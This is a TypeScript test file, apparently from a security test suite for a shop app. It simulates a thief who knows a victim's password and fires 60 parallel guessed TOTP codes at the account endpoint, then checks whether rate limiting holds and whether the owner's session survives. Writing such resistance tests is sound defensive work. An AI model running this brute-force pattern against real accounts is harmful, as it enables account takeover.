import { Secret, TOTP } from 'otpauth';
import { HttpClient } from '../../lib/http-client.ts';
import type { Attack } from '../attack.ts';
import { signUp } from '../shop.ts';
import { tally } from '../tally.ts';

const GUESSES = 60;

/** Guessed codes of a second factor at once, by somebody who knows the password. The owner's session goes on. */
export const secondFactor: Attack = {
  name: '21 second factor',
  seconds: 8,
  async run(shop) {
    const { apiUrl } = shop;
    const owner = new HttpClient('127.0.0.29');
    const { token, email, idToken } = await signUp(shop, owner);
    const { secret } = await owner.expect(201, 'POST', `${apiUrl}/second-factor`, { token });
    const body = { code: new TOTP({ secret: Secret.fromBase32(secret) }).generate() };
    await owner.expect(200, 'PUT', `${apiUrl}/second-factor`, { token, body });
    const thief = new HttpClient('127.0.0.30');
    const url = `${apiUrl}/user/${encodeURIComponent(email)}`;
    const guesses = Array.from({ length: GUESSES }, async (_, at) => {
      const code = String(at).padStart(6, '0');
      return (await thief.call('PUT', url, { body: { email, idToken, code } })).status;
    });
    const statuses = await Promise.all(guesses);
    const session = await owner.call('GET', `${apiUrl}/second-factor`, { token });
    return `${GUESSES} guessed codes: ${tally(statuses)}; the owner's session: ${session.status}`;
  },
};
